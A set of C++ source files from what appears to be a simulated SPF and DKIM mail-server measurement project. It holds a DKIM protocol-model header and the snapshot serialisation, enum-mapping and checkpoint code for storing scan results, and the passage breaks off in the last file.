// SUBSTITUTION (DESIGN.md): real DKIM uses RSA/Ed25519. This module uses a
// deterministic keyed-digest scheme ("a=sim-sha") so the *protocol flow* —
// canonicalisation, header selection, bh/b tags, the
// <selector>._domainkey.<domain> TXT lookup, alignment domains — is
// faithfully exercised without a cryptography dependency. It is explicitly
// NOT a security mechanism: anyone holding the public record could forge.
// Every consumer in this repository treats it as a protocol model only.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "dns/resolver.hpp"
#include "mail/message.hpp"

namespace spfail::dkim {

// Parsed DKIM-Signature header (the tags the simulation models).
struct Signature {
  std::string version = "1";       // v=
  std::string algorithm = "sim-sha";  // a=
  dns::Name domain;                // d=
  std::string selector;            // s=
  std::vector<std::string> signed_headers;  // h= (colon-separated)
  std::string body_hash;           // bh=
  std::string signature;           // b=

  std::string to_header_value() const;
};

class SignatureSyntaxError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

// Parse a DKIM-Signature header value ("v=1; a=sim-sha; d=...; ...").
Signature parse_signature(std::string_view header_value);

// "Relaxed"-style canonicalisation used by sign and verify.
std::string canonicalize_header(std::string_view name, std::string_view value);
std::string canonicalize_body(std::string_view body);

// The DNS TXT record a signing domain publishes at
// <selector>._domainkey.<domain>.
std::string key_record_text(std::string_view secret);
dns::Name key_record_name(const dns::Name& domain, std::string_view selector);

class Signer {
 public:
  Signer(dns::Name domain, std::string selector, std::string secret)
      : domain_(std::move(domain)),
        selector_(std::move(selector)),
        secret_(std::move(secret)) {}

  // Compute and prepend a DKIM-Signature header covering `headers_to_sign`
  // (default: From, Subject, Date when present) and the body.
  void sign(mail::Message& message,
            std::vector<std::string> headers_to_sign = {"from", "subject",
                                                        "date"}) const;

  const dns::Name& domain() const noexcept { return domain_; }

 private:
  dns::Name domain_;
  std::string selector_;
  std::string secret_;
};

enum class VerifyResult {
  None,       // no DKIM-Signature header
  Pass,       // signature verifies against the published key
  Fail,       // signature present but does not verify (or body mutated)
  PermError,  // unparseable signature / missing or malformed key record
};

std::string to_string(VerifyResult result);

struct Verification {
  VerifyResult result = VerifyResult::None;
  dns::Name domain;  // d= of the (first) signature, for DMARC alignment
};

// Verify the first DKIM-Signature on `message`, fetching the key via
// `resolver`.
Verification verify(const mail::Message& message, dns::StubResolver& resolver);

}  // namespace spfail::dkim
