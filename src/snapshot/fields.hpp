// Shared field codecs for the snapshot format and the distributed-scan wire
// protocol (DESIGN.md §11, §15).
//
// These encode the scan-domain value types (addresses, probe results,
// per-address outcomes, degradation counters, whole campaign reports, wire
// frames, host residue) against snapshot::Writer/Reader. They were born as
// file-local helpers of snapshot.cpp; the coordinator/worker pipe protocol
// in src/dist/ speaks exactly the same field layout, so the codecs live here
// once — a checkpoint and a worker reply agree byte-for-byte on every shared
// structure, and the frozen-wire-byte tests in snapshot_test cover both.
#pragma once

#include <string_view>

#include "faults/degradation.hpp"
#include "net/frame.hpp"
#include "scan/campaign.hpp"
#include "snapshot/codec.hpp"
#include "snapshot/snapshot.hpp"
#include "util/ip.hpp"

namespace spfail::mta {
class MailHost;
}

namespace spfail::snapshot {

// FNV-1a 64 over encoded payload bytes — the integrity check every container
// (snapshot file, worker checkpoint, pipe frame) appends to its payload.
std::uint64_t payload_checksum(std::string_view bytes);

void put_address(Writer& w, const util::IpAddress& address);
util::IpAddress get_address(Reader& r);

void put_probe_result(Writer& w, const scan::ProbeResult& result);
scan::ProbeResult get_probe_result(Reader& r);

void put_outcome(Writer& w, const scan::AddressOutcome& outcome);
scan::AddressOutcome get_outcome(Reader& r);

void put_degradation(Writer& w, const faults::DegradationReport& deg);
faults::DegradationReport get_degradation(Reader& r);

void put_report(Writer& w, const scan::CampaignReport& report);
scan::CampaignReport get_report(Reader& r);

void put_frame(Writer& w, const net::Frame& frame);
net::Frame get_frame(Reader& r);

// Scanner-visible host residue (greylist first-contact map + flaky-RNG
// cursor). Field order is frozen: it is the exact layout StudySnapshot
// always used for its hosts section.
void put_host_state(Writer& w, const StudySnapshot::HostState& host);
StudySnapshot::HostState get_host_state(Reader& r);

// Capture a host's residue in canonical wire form (greylist entries re-keyed
// to textual addresses and re-sorted lexically — see the note in
// Study::capture). Shared by the study's checkpoint writer and the dist
// worker's per-chunk checkpoints.
StudySnapshot::HostState capture_host_state(const util::IpAddress& address,
                                            const mta::MailHost& host);

}  // namespace spfail::snapshot
