// Exhaustive enum <-> wire-byte mappings for snapshot encoding.
//
// Every enum that crosses the snapshot boundary goes through an encode_ /
// decode_ pair here. Encoders are total switches (a new enumerator without a
// mapping is a compile-time -Wswitch error); decoders validate and throw
// SnapshotError on an unmapped byte, so a corrupted or future-format
// snapshot can never smuggle an out-of-range value into an enum.
// tests/enum_strings_test.cpp round-trips every enumerator of every mapping.
#pragma once

#include <cstdint>

#include "faults/fault.hpp"
#include "longitudinal/inference.hpp"
#include "net/frame.hpp"
#include "obs/metrics.hpp"
#include "scan/campaign.hpp"
#include "scan/prober.hpp"
#include "spfvuln/behavior.hpp"
#include "util/ip.hpp"

namespace spfail::snapshot {

std::uint8_t encode_enum(scan::TestKind v);
std::uint8_t encode_enum(scan::ProbeStatus v);
std::uint8_t encode_enum(scan::AddressVerdict v);
std::uint8_t encode_enum(spfvuln::SpfBehavior v);
std::uint8_t encode_enum(faults::FaultKind v);
std::uint8_t encode_enum(longitudinal::Observation v);
std::uint8_t encode_enum(net::Direction v);
std::uint8_t encode_enum(net::FrameKind v);
std::uint8_t encode_enum(util::IpAddress::Family v);
std::uint8_t encode_enum(obs::MetricKind v);

scan::TestKind decode_test_kind(std::uint8_t v);
scan::ProbeStatus decode_probe_status(std::uint8_t v);
scan::AddressVerdict decode_address_verdict(std::uint8_t v);
spfvuln::SpfBehavior decode_spf_behavior(std::uint8_t v);
faults::FaultKind decode_fault_kind(std::uint8_t v);
longitudinal::Observation decode_observation(std::uint8_t v);
net::Direction decode_direction(std::uint8_t v);
net::FrameKind decode_frame_kind(std::uint8_t v);
util::IpAddress::Family decode_family(std::uint8_t v);
obs::MetricKind decode_metric_kind(std::uint8_t v);

}  // namespace spfail::snapshot
