#include "snapshot/codec.hpp"

#include <cstring>
#include <limits>

namespace spfail::snapshot {

void Writer::f64(double v) {
  static_assert(sizeof(double) == sizeof(std::uint64_t));
  std::uint64_t bits = 0;
  std::memcpy(&bits, &v, sizeof(bits));
  u64(bits);
}

void Writer::str(std::string_view v) {
  if (v.size() > std::numeric_limits<std::uint32_t>::max()) {
    throw SnapshotError("string exceeds u32 length prefix");
  }
  u32(static_cast<std::uint32_t>(v.size()));
  bytes_.append(v.data(), v.size());
}

std::uint64_t Reader::unsigned_le(int width) {
  if (remaining() < static_cast<std::size_t>(width)) {
    throw SnapshotError("truncated input (wanted " + std::to_string(width) +
                        " bytes, have " + std::to_string(remaining()) + ")");
  }
  std::uint64_t v = 0;
  for (int i = 0; i < width; ++i) {
    v |= static_cast<std::uint64_t>(
             static_cast<std::uint8_t>(bytes_[pos_ + i]))
         << (8 * i);
  }
  pos_ += static_cast<std::size_t>(width);
  return v;
}

double Reader::f64() {
  const std::uint64_t bits = u64();
  double v = 0;
  std::memcpy(&v, &bits, sizeof(v));
  return v;
}

bool Reader::boolean() {
  const std::uint8_t v = u8();
  if (v > 1) {
    throw SnapshotError("invalid boolean byte " + std::to_string(v));
  }
  return v == 1;
}

std::string Reader::str() {
  const std::uint32_t length = u32();
  if (remaining() < length) {
    throw SnapshotError("truncated string (wanted " + std::to_string(length) +
                        " bytes, have " + std::to_string(remaining()) + ")");
  }
  std::string v(bytes_.substr(pos_, length));
  pos_ += length;
  return v;
}

void Reader::expect_done() const {
  if (!done()) {
    throw SnapshotError(std::to_string(remaining()) +
                        " trailing bytes after the last field");
  }
}

}  // namespace spfail::snapshot
