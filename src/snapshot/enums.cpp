#include "snapshot/enums.hpp"

#include <string>

#include "snapshot/codec.hpp"

namespace spfail::snapshot {

namespace {

[[noreturn]] void unmapped(const char* what, std::uint8_t v) {
  throw SnapshotError(std::string("unmapped ") + what + " byte " +
                      std::to_string(v));
}

}  // namespace

// The wire bytes are the enumerators' declaration order frozen at snapshot
// version 1. Appending new enumerators keeps old bytes stable; reordering an
// enum must NOT reorder these switches.

std::uint8_t encode_enum(scan::TestKind v) {
  switch (v) {
    case scan::TestKind::NoMsg:
      return 0;
    case scan::TestKind::BlankMsg:
      return 1;
  }
  unmapped("TestKind", static_cast<std::uint8_t>(v));
}

scan::TestKind decode_test_kind(std::uint8_t v) {
  switch (v) {
    case 0:
      return scan::TestKind::NoMsg;
    case 1:
      return scan::TestKind::BlankMsg;
  }
  unmapped("TestKind", v);
}

std::uint8_t encode_enum(scan::ProbeStatus v) {
  switch (v) {
    case scan::ProbeStatus::ConnectionRefused:
      return 0;
    case scan::ProbeStatus::SmtpFailure:
      return 1;
    case scan::ProbeStatus::Greylisted:
      return 2;
    case scan::ProbeStatus::TempFailed:
      return 3;
    case scan::ProbeStatus::Dropped:
      return 4;
    case scan::ProbeStatus::SpfMeasured:
      return 5;
    case scan::ProbeStatus::SpfNotMeasured:
      return 6;
  }
  unmapped("ProbeStatus", static_cast<std::uint8_t>(v));
}

scan::ProbeStatus decode_probe_status(std::uint8_t v) {
  switch (v) {
    case 0:
      return scan::ProbeStatus::ConnectionRefused;
    case 1:
      return scan::ProbeStatus::SmtpFailure;
    case 2:
      return scan::ProbeStatus::Greylisted;
    case 3:
      return scan::ProbeStatus::TempFailed;
    case 4:
      return scan::ProbeStatus::Dropped;
    case 5:
      return scan::ProbeStatus::SpfMeasured;
    case 6:
      return scan::ProbeStatus::SpfNotMeasured;
  }
  unmapped("ProbeStatus", v);
}

std::uint8_t encode_enum(scan::AddressVerdict v) {
  switch (v) {
    case scan::AddressVerdict::Refused:
      return 0;
    case scan::AddressVerdict::SmtpFailure:
      return 1;
    case scan::AddressVerdict::Measured:
      return 2;
    case scan::AddressVerdict::NotMeasured:
      return 3;
  }
  unmapped("AddressVerdict", static_cast<std::uint8_t>(v));
}

scan::AddressVerdict decode_address_verdict(std::uint8_t v) {
  switch (v) {
    case 0:
      return scan::AddressVerdict::Refused;
    case 1:
      return scan::AddressVerdict::SmtpFailure;
    case 2:
      return scan::AddressVerdict::Measured;
    case 3:
      return scan::AddressVerdict::NotMeasured;
  }
  unmapped("AddressVerdict", v);
}

std::uint8_t encode_enum(spfvuln::SpfBehavior v) {
  switch (v) {
    case spfvuln::SpfBehavior::RfcCompliant:
      return 0;
    case spfvuln::SpfBehavior::VulnerableLibspf2:
      return 1;
    case spfvuln::SpfBehavior::PatchedLibspf2:
      return 2;
    case spfvuln::SpfBehavior::NoExpansion:
      return 3;
    case spfvuln::SpfBehavior::NoTruncation:
      return 4;
    case spfvuln::SpfBehavior::NoReversal:
      return 5;
    case spfvuln::SpfBehavior::NoTransformers:
      return 6;
    case spfvuln::SpfBehavior::OtherErroneous:
      return 7;
  }
  unmapped("SpfBehavior", static_cast<std::uint8_t>(v));
}

spfvuln::SpfBehavior decode_spf_behavior(std::uint8_t v) {
  switch (v) {
    case 0:
      return spfvuln::SpfBehavior::RfcCompliant;
    case 1:
      return spfvuln::SpfBehavior::VulnerableLibspf2;
    case 2:
      return spfvuln::SpfBehavior::PatchedLibspf2;
    case 3:
      return spfvuln::SpfBehavior::NoExpansion;
    case 4:
      return spfvuln::SpfBehavior::NoTruncation;
    case 5:
      return spfvuln::SpfBehavior::NoReversal;
    case 6:
      return spfvuln::SpfBehavior::NoTransformers;
    case 7:
      return spfvuln::SpfBehavior::OtherErroneous;
  }
  unmapped("SpfBehavior", v);
}

std::uint8_t encode_enum(faults::FaultKind v) {
  switch (v) {
    case faults::FaultKind::None:
      return 0;
    case faults::FaultKind::SmtpTempfail:
      return 1;
    case faults::FaultKind::ConnectionDrop:
      return 2;
    case faults::FaultKind::LatencySpike:
      return 3;
    case faults::FaultKind::DnsServfail:
      return 4;
    case faults::FaultKind::DnsTimeout:
      return 5;
    case faults::FaultKind::LameDelegation:
      return 6;
  }
  unmapped("FaultKind", static_cast<std::uint8_t>(v));
}

faults::FaultKind decode_fault_kind(std::uint8_t v) {
  switch (v) {
    case 0:
      return faults::FaultKind::None;
    case 1:
      return faults::FaultKind::SmtpTempfail;
    case 2:
      return faults::FaultKind::ConnectionDrop;
    case 3:
      return faults::FaultKind::LatencySpike;
    case 4:
      return faults::FaultKind::DnsServfail;
    case 5:
      return faults::FaultKind::DnsTimeout;
    case 6:
      return faults::FaultKind::LameDelegation;
  }
  unmapped("FaultKind", v);
}

std::uint8_t encode_enum(longitudinal::Observation v) {
  switch (v) {
    case longitudinal::Observation::Vulnerable:
      return 0;
    case longitudinal::Observation::Compliant:
      return 1;
    case longitudinal::Observation::Inconclusive:
      return 2;
  }
  unmapped("Observation", static_cast<std::uint8_t>(v));
}

longitudinal::Observation decode_observation(std::uint8_t v) {
  switch (v) {
    case 0:
      return longitudinal::Observation::Vulnerable;
    case 1:
      return longitudinal::Observation::Compliant;
    case 2:
      return longitudinal::Observation::Inconclusive;
  }
  unmapped("Observation", v);
}

std::uint8_t encode_enum(net::Direction v) {
  switch (v) {
    case net::Direction::ClientToServer:
      return 0;
    case net::Direction::ServerToClient:
      return 1;
  }
  unmapped("Direction", static_cast<std::uint8_t>(v));
}

net::Direction decode_direction(std::uint8_t v) {
  switch (v) {
    case 0:
      return net::Direction::ClientToServer;
    case 1:
      return net::Direction::ServerToClient;
  }
  unmapped("Direction", v);
}

std::uint8_t encode_enum(net::FrameKind v) {
  switch (v) {
    case net::FrameKind::SmtpCommand:
      return 0;
    case net::FrameKind::SmtpReply:
      return 1;
    case net::FrameKind::DnsQuery:
      return 2;
    case net::FrameKind::DnsResponse:
      return 3;
  }
  unmapped("FrameKind", static_cast<std::uint8_t>(v));
}

net::FrameKind decode_frame_kind(std::uint8_t v) {
  switch (v) {
    case 0:
      return net::FrameKind::SmtpCommand;
    case 1:
      return net::FrameKind::SmtpReply;
    case 2:
      return net::FrameKind::DnsQuery;
    case 3:
      return net::FrameKind::DnsResponse;
  }
  unmapped("FrameKind", v);
}

std::uint8_t encode_enum(util::IpAddress::Family v) {
  switch (v) {
    case util::IpAddress::Family::V4:
      return 0;
    case util::IpAddress::Family::V6:
      return 1;
  }
  unmapped("Family", static_cast<std::uint8_t>(v));
}

util::IpAddress::Family decode_family(std::uint8_t v) {
  switch (v) {
    case 0:
      return util::IpAddress::Family::V4;
    case 1:
      return util::IpAddress::Family::V6;
  }
  unmapped("Family", v);
}

// MetricKind's enumerator values double as its wire bytes (1/2/3, with 0
// reserved) — the identity is asserted here rather than assumed.
std::uint8_t encode_enum(obs::MetricKind v) {
  switch (v) {
    case obs::MetricKind::Counter:
      return 1;
    case obs::MetricKind::Gauge:
      return 2;
    case obs::MetricKind::Histogram:
      return 3;
  }
  unmapped("MetricKind", static_cast<std::uint8_t>(v));
}

obs::MetricKind decode_metric_kind(std::uint8_t v) {
  switch (v) {
    case 1:
      return obs::MetricKind::Counter;
    case 2:
      return obs::MetricKind::Gauge;
    case 3:
      return obs::MetricKind::Histogram;
  }
  unmapped("MetricKind", v);
}

}  // namespace spfail::snapshot
