#include "snapshot/snapshot.hpp"

#include <cstdio>
#include <fstream>
#include <string_view>

#include "snapshot/enums.hpp"

namespace spfail::snapshot {

namespace {

// Payload integrity check: FNV-1a 64 over the encoded payload bytes.
std::uint64_t fnv1a(std::string_view bytes) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (const char c : bytes) {
    h ^= static_cast<std::uint8_t>(c);
    h *= 0x100000001b3ULL;
  }
  return h;
}

// Guards the optional trailing metrics section: any other first byte after
// the trace frames means a corrupt or foreign tail, not a missing feature.
constexpr std::uint8_t kMetricsMarker = 0x4D;  // 'M'
// Guards the optional fleet intern-table section. Ordering is fixed:
// metrics (if any) first, strings (if any) last — each optional section
// appends after every older one so absent-section snapshots keep their bytes.
constexpr std::uint8_t kStringsMarker = 0x49;  // 'I'

SnapshotKind decode_kind(std::uint8_t v) {
  switch (v) {
    case 1:
      return SnapshotKind::Campaign;
    case 2:
      return SnapshotKind::Study;
  }
  throw SnapshotError("unmapped SnapshotKind byte " + std::to_string(v));
}

// --- field codecs -----------------------------------------------------------

void put_address(Writer& w, const util::IpAddress& address) {
  w.u8(encode_enum(address.family()));
  for (const std::uint8_t byte : address.bytes()) w.u8(byte);
}

util::IpAddress get_address(Reader& r) {
  const auto family = decode_family(r.u8());
  std::array<std::uint8_t, 16> bytes{};
  for (auto& byte : bytes) byte = r.u8();
  if (family == util::IpAddress::Family::V4) {
    return util::IpAddress::v4(bytes[0], bytes[1], bytes[2], bytes[3]);
  }
  return util::IpAddress::v6(bytes);
}

void put_name(Writer& w, const dns::Name& name) {
  w.str(name.empty() ? std::string_view{} : name.to_string());
}

dns::Name get_name(Reader& r) {
  const std::string text = r.str();
  return text.empty() ? dns::Name::root() : dns::Name::lenient(text);
}

void put_behaviors(Writer& w, const std::set<spfvuln::SpfBehavior>& behaviors) {
  w.u32(static_cast<std::uint32_t>(behaviors.size()));
  for (const auto b : behaviors) w.u8(encode_enum(b));
}

std::set<spfvuln::SpfBehavior> get_behaviors(Reader& r) {
  std::set<spfvuln::SpfBehavior> behaviors;
  const std::uint32_t n = r.u32();
  for (std::uint32_t i = 0; i < n; ++i) {
    behaviors.insert(decode_spf_behavior(r.u8()));
  }
  return behaviors;
}

void put_probe_result(Writer& w, const scan::ProbeResult& result) {
  w.u8(encode_enum(result.kind));
  w.u8(encode_enum(result.status));
  put_address(w, result.target);
  put_name(w, result.mail_from_domain);
  put_behaviors(w, result.behaviors);
  w.boolean(result.saw_policy_fetch);
  w.i64(result.failing_code);
  w.str(result.accepted_username);
  w.u8(encode_enum(result.injected));
}

scan::ProbeResult get_probe_result(Reader& r) {
  scan::ProbeResult result;
  result.kind = decode_test_kind(r.u8());
  result.status = decode_probe_status(r.u8());
  result.target = get_address(r);
  result.mail_from_domain = get_name(r);
  result.behaviors = get_behaviors(r);
  result.saw_policy_fetch = r.boolean();
  result.failing_code = static_cast<int>(r.i64());
  result.accepted_username = r.str();
  result.injected = decode_fault_kind(r.u8());
  return result;
}

void put_outcome(Writer& w, const scan::AddressOutcome& outcome) {
  put_address(w, outcome.address);
  w.boolean(outcome.nomsg.has_value());
  if (outcome.nomsg) put_probe_result(w, *outcome.nomsg);
  w.boolean(outcome.blankmsg.has_value());
  if (outcome.blankmsg) put_probe_result(w, *outcome.blankmsg);
  w.u8(encode_enum(outcome.verdict));
  put_behaviors(w, outcome.behaviors);
  w.i64(outcome.probe_attempts);
  w.i64(outcome.retries_used);
  w.boolean(outcome.saw_transient);
}

scan::AddressOutcome get_outcome(Reader& r) {
  scan::AddressOutcome outcome;
  outcome.address = get_address(r);
  if (r.boolean()) outcome.nomsg = get_probe_result(r);
  if (r.boolean()) outcome.blankmsg = get_probe_result(r);
  outcome.verdict = decode_address_verdict(r.u8());
  outcome.behaviors = get_behaviors(r);
  outcome.probe_attempts = static_cast<int>(r.i64());
  outcome.retries_used = static_cast<int>(r.i64());
  outcome.saw_transient = r.boolean();
  return outcome;
}

void put_degradation(Writer& w, const faults::DegradationReport& deg) {
  w.f64(deg.configured_rate);
  w.u64(deg.probe_attempts);
  w.u64(deg.retries);
  w.u64(deg.injected_tempfail);
  w.u64(deg.injected_drop);
  w.u64(deg.injected_latency);
  w.u64(deg.injected_dns);
  w.i64(deg.latency_injected);
  w.u64(deg.transient_addresses);
  w.u64(deg.recovered);
  w.u64(deg.exhausted);
  w.u64(deg.breaker_trips);
  w.u64(deg.breaker_skipped);
  w.u64(deg.requeued);
  w.u64(deg.requeue_recovered);
  w.u64(deg.addresses_tested);
  w.u64(deg.conclusive);
}

faults::DegradationReport get_degradation(Reader& r) {
  faults::DegradationReport deg;
  deg.configured_rate = r.f64();
  deg.probe_attempts = r.u64();
  deg.retries = r.u64();
  deg.injected_tempfail = r.u64();
  deg.injected_drop = r.u64();
  deg.injected_latency = r.u64();
  deg.injected_dns = r.u64();
  deg.latency_injected = r.i64();
  deg.transient_addresses = r.u64();
  deg.recovered = r.u64();
  deg.exhausted = r.u64();
  deg.breaker_trips = r.u64();
  deg.breaker_skipped = r.u64();
  deg.requeued = r.u64();
  deg.requeue_recovered = r.u64();
  deg.addresses_tested = r.u64();
  deg.conclusive = r.u64();
  return deg;
}

void put_report(Writer& w, const scan::CampaignReport& report) {
  w.str(report.suite_label);
  // Canonical encoding: outcomes in ascending address order, not map order.
  const auto sorted = report.sorted_outcomes();
  w.u64(sorted.size());
  for (const auto* outcome : sorted) put_outcome(w, *outcome);
  w.u64(report.domains.size());
  for (const auto& domain : report.domains) {
    w.str(domain.domain);
    w.u64(domain.addresses.size());
    for (const auto& address : domain.addresses) put_address(w, address);
    w.boolean(domain.any_refused);
    w.boolean(domain.any_measured);
    w.boolean(domain.vulnerable);
    put_behaviors(w, domain.behaviors);
  }
  put_degradation(w, report.degradation);
}

scan::CampaignReport get_report(Reader& r) {
  scan::CampaignReport report;
  report.suite_label = r.str();
  const std::uint64_t outcomes = r.u64();
  for (std::uint64_t i = 0; i < outcomes; ++i) {
    scan::AddressOutcome outcome = get_outcome(r);
    const util::IpAddress address = outcome.address;
    report.addresses.emplace(address, std::move(outcome));
  }
  const std::uint64_t domains = r.u64();
  for (std::uint64_t i = 0; i < domains; ++i) {
    scan::DomainOutcome domain;
    domain.domain = r.str();
    const std::uint64_t addresses = r.u64();
    for (std::uint64_t j = 0; j < addresses; ++j) {
      domain.addresses.push_back(get_address(r));
    }
    domain.any_refused = r.boolean();
    domain.any_measured = r.boolean();
    domain.vulnerable = r.boolean();
    domain.behaviors = get_behaviors(r);
    report.domains.push_back(std::move(domain));
  }
  report.degradation = get_degradation(r);
  return report;
}

void put_frame(Writer& w, const net::Frame& frame) {
  w.i64(frame.time);
  w.u64(frame.lane);
  w.str(frame.src);
  w.str(frame.dst);
  w.u8(encode_enum(frame.direction));
  w.u8(encode_enum(frame.kind));
  w.str(frame.verb);
  w.i64(frame.code);
  w.str(frame.text);
  w.str(frame.qname);
  w.str(frame.qtype);
  w.str(frame.rcode);
  w.u64(frame.answers);
  w.boolean(frame.injected);
}

net::Frame get_frame(Reader& r) {
  net::Frame frame;
  frame.time = r.i64();
  frame.lane = r.u64();
  frame.src = r.str();
  frame.dst = r.str();
  frame.direction = decode_direction(r.u8());
  frame.kind = decode_frame_kind(r.u8());
  frame.verb = r.str();
  frame.code = static_cast<int>(r.i64());
  frame.text = r.str();
  frame.qname = r.str();
  frame.qtype = r.str();
  frame.rcode = r.str();
  frame.answers = r.u64();
  frame.injected = r.boolean();
  return frame;
}

}  // namespace

std::string to_string(SnapshotKind kind) {
  switch (kind) {
    case SnapshotKind::Campaign:
      return "campaign";
    case SnapshotKind::Study:
      return "study";
  }
  return "unknown";
}

std::string StudySnapshot::encode() const {
  Writer payload;
  payload.u64(rounds_done);
  payload.i64(clock_now);
  for (const std::uint64_t word : loss_rng) payload.u64(word);
  payload.u64(suites_issued);
  put_report(payload, initial);
  put_degradation(payload, degradation);
  payload.u64(remeasurable_resolved_vulnerable);
  payload.u64(remeasurable_resolved_compliant);
  payload.u64(remeasurable.size());
  for (const auto& [address, slot] : remeasurable) {
    put_address(payload, address);
    payload.u64(slot);
  }
  payload.u64(blacklisted.size());
  for (const auto& address : blacklisted) put_address(payload, address);
  payload.u64(patched.size());
  for (const auto& address : patched) put_address(payload, address);
  payload.u64(series.size());
  for (const auto& observations : series) {
    payload.u64(observations.size());
    for (const auto obs : observations) payload.u8(encode_enum(obs));
  }
  payload.u64(hosts.size());
  for (const auto& host : hosts) {
    put_address(payload, host.address);
    payload.u64(host.greylist_seen.size());
    for (const auto& [client, first_try] : host.greylist_seen) {
      payload.str(client);
      payload.i64(first_try);
    }
    for (const std::uint64_t word : host.flaky_rng) payload.u64(word);
  }
  payload.u64(trace.size());
  for (const auto& frame : trace) put_frame(payload, frame);
  if (has_metrics) {
    payload.u8(kMetricsMarker);
    metrics.encode(payload);
    payload.u64(metric_lines.size());
    for (const auto& line : metric_lines) payload.str(line);
  }
  if (has_strings) {
    payload.u8(kStringsMarker);
    strings.encode(payload);
  }

  Writer out;
  for (const char c : kMagic) out.u8(static_cast<std::uint8_t>(c));
  out.u32(kSnapshotVersion);
  out.u8(static_cast<std::uint8_t>(meta.kind));
  out.u64(meta.fleet_seed);
  out.f64(meta.scale);
  out.u64(meta.study_seed);
  out.u64(meta.fault_seed);
  out.f64(meta.fault_rate);
  out.boolean(meta.tracing);
  out.str(payload.bytes());
  out.u64(fnv1a(payload.bytes()));
  return out.take();
}

StudySnapshot StudySnapshot::decode(std::string_view bytes) {
  Reader r(bytes);
  for (const char expected : kMagic) {
    if (r.u8() != static_cast<std::uint8_t>(expected)) {
      throw SnapshotError("bad magic (not a spfail snapshot)");
    }
  }
  const std::uint32_t version = r.u32();
  if (version != kSnapshotVersion) {
    throw SnapshotError("unsupported format version " +
                        std::to_string(version) + " (this build reads " +
                        std::to_string(kSnapshotVersion) + ")");
  }

  StudySnapshot snap;
  snap.meta.kind = decode_kind(r.u8());
  snap.meta.fleet_seed = r.u64();
  snap.meta.scale = r.f64();
  snap.meta.study_seed = r.u64();
  snap.meta.fault_seed = r.u64();
  snap.meta.fault_rate = r.f64();
  snap.meta.tracing = r.boolean();

  const std::string payload_bytes = r.str();
  const std::uint64_t checksum = r.u64();
  r.expect_done();
  if (checksum != fnv1a(payload_bytes)) {
    throw SnapshotError("payload checksum mismatch (corrupt snapshot)");
  }

  Reader payload(payload_bytes);
  snap.rounds_done = payload.u64();
  snap.clock_now = payload.i64();
  for (auto& word : snap.loss_rng) word = payload.u64();
  snap.suites_issued = payload.u64();
  snap.initial = get_report(payload);
  snap.degradation = get_degradation(payload);
  snap.remeasurable_resolved_vulnerable = payload.u64();
  snap.remeasurable_resolved_compliant = payload.u64();
  const std::uint64_t remeasurable = payload.u64();
  for (std::uint64_t i = 0; i < remeasurable; ++i) {
    util::IpAddress address = get_address(payload);
    const std::uint64_t slot = payload.u64();
    snap.remeasurable.emplace_back(address, slot);
  }
  const std::uint64_t blacklisted = payload.u64();
  for (std::uint64_t i = 0; i < blacklisted; ++i) {
    snap.blacklisted.push_back(get_address(payload));
  }
  const std::uint64_t patched = payload.u64();
  for (std::uint64_t i = 0; i < patched; ++i) {
    snap.patched.push_back(get_address(payload));
  }
  const std::uint64_t series = payload.u64();
  for (std::uint64_t i = 0; i < series; ++i) {
    std::vector<longitudinal::Observation> observations;
    const std::uint64_t n = payload.u64();
    for (std::uint64_t j = 0; j < n; ++j) {
      observations.push_back(decode_observation(payload.u8()));
    }
    snap.series.push_back(std::move(observations));
  }
  const std::uint64_t hosts = payload.u64();
  for (std::uint64_t i = 0; i < hosts; ++i) {
    StudySnapshot::HostState host;
    host.address = get_address(payload);
    const std::uint64_t entries = payload.u64();
    for (std::uint64_t j = 0; j < entries; ++j) {
      std::string client = payload.str();
      const util::SimTime first_try = payload.i64();
      host.greylist_seen.emplace_back(std::move(client), first_try);
    }
    for (auto& word : host.flaky_rng) word = payload.u64();
    snap.hosts.push_back(std::move(host));
  }
  const std::uint64_t frames = payload.u64();
  for (std::uint64_t i = 0; i < frames; ++i) {
    snap.trace.push_back(get_frame(payload));
  }
  if (!payload.done()) {
    std::uint8_t marker = payload.u8();
    if (marker == kMetricsMarker) {
      snap.has_metrics = true;
      snap.metrics = obs::Registry::decode(payload);
      const std::uint64_t lines = payload.u64();
      for (std::uint64_t i = 0; i < lines; ++i) {
        snap.metric_lines.push_back(payload.str());
      }
      if (payload.done()) return snap;
      marker = payload.u8();
    }
    if (marker != kStringsMarker) {
      throw SnapshotError("trailing bytes are not an optional section");
    }
    snap.has_strings = true;
    snap.strings = util::Interner::decode(payload);
  }
  payload.expect_done();
  return snap;
}

void save_atomically(const std::string& path, std::string_view bytes) {
  const std::string tmp = path + ".tmp";
  {
    std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
    if (!out) {
      throw SnapshotError("cannot open '" + tmp + "' for writing");
    }
    out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
    out.flush();
    if (!out) {
      throw SnapshotError("short write to '" + tmp + "'");
    }
  }
  if (std::rename(tmp.c_str(), path.c_str()) != 0) {
    std::remove(tmp.c_str());
    throw SnapshotError("cannot rename '" + tmp + "' over '" + path + "'");
  }
}

std::string load_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    throw SnapshotError("cannot open '" + path + "' for reading");
  }
  std::string bytes((std::istreambuf_iterator<char>(in)),
                    std::istreambuf_iterator<char>());
  if (in.bad()) {
    throw SnapshotError("read error on '" + path + "'");
  }
  return bytes;
}

}  // namespace spfail::snapshot
