#include "snapshot/snapshot.hpp"

#include <cstdio>
#include <fstream>
#include <string_view>

#include "snapshot/enums.hpp"
#include "snapshot/fields.hpp"

namespace spfail::snapshot {

namespace {

// Guards the optional trailing metrics section: any other first byte after
// the trace frames means a corrupt or foreign tail, not a missing feature.
constexpr std::uint8_t kMetricsMarker = 0x4D;  // 'M'
// Guards the optional fleet intern-table section. Ordering is fixed:
// metrics (if any) first, then strings, then workers — each optional section
// appends after every older one so absent-section snapshots keep their bytes.
constexpr std::uint8_t kStringsMarker = 0x49;  // 'I'
// Guards the optional worker-shard section (DESIGN.md §15): the worker count
// of the distributed run that wrote the snapshot.
constexpr std::uint8_t kWorkersMarker = 0x57;  // 'W'

SnapshotKind decode_kind(std::uint8_t v) {
  switch (v) {
    case 1:
      return SnapshotKind::Campaign;
    case 2:
      return SnapshotKind::Study;
  }
  throw SnapshotError("unmapped SnapshotKind byte " + std::to_string(v));
}

}  // namespace

std::string to_string(SnapshotKind kind) {
  switch (kind) {
    case SnapshotKind::Campaign:
      return "campaign";
